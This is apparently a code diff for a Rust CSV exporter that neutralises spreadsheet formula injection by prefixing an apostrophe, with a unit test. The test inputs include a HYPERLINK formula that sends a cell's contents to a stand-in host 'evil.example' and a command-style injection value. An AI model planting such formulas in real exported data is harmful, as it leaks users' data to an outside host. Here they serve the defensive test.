@@ -42,12 +42,24 @@ impl<T> Column<T> {
     /// The value as CSV has it; nothing is empty.
     pub(super) fn text_of(&self, row: &T) -> String {
         match self.value {
-            Value::Text(of) => of(row).unwrap_or_default(),
+            Value::Text(of) => of(row).map(no_formula).unwrap_or_default(),
             Value::Real(of) => of(row).map(|value| value.to_string()).unwrap_or_default(),
             Value::Whole(of) => of(row).map(|value| value.to_string()).unwrap_or_default(),
             Value::Time(of) => of(row).to_string(),
         }
     }
+}
+
+/// What a spreadsheet takes for the beginning of a formula; some take the wide forms, too.
+const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+/// Text from a box as text in a spreadsheet, which would run a formula that it opens in a file; quotation
+/// marks do not stop it, an apostrophe does.
+fn no_formula(mut text: String) -> String {
+    if text.starts_with(FORMULA) {
+        text.insert(0, '\'');
+    }
+    text
 }
 
 /// A number that was read as a single, without the digits that a double would add.
@@ -173,4 +185,30 @@ pub(super) const TRANSCRIPTS: &[Column<TurnRow>] = &[
 
 fn count(value: u64) -> Option<i64> {
     i64::try_from(value).ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_is_no_formula_for_a_spreadsheet() {
+        let text = Column::text("text", |row: &&str| Some((*row).to_owned()));
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "+1",
+            "-1+cmd",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "＝1",
+        ] {
+            assert_eq!(text.text_of(&formula), format!("'{formula}"));
+        }
+        for plain in ["", "a=b", "我要-退款", "'=1"] {
+            assert_eq!(text.text_of(&plain), plain);
+        }
+        let real = Column::real("real", |_: &&str| Some(-0.5));
+        assert_eq!(real.text_of(&""), "-0.5");
+    }
 }
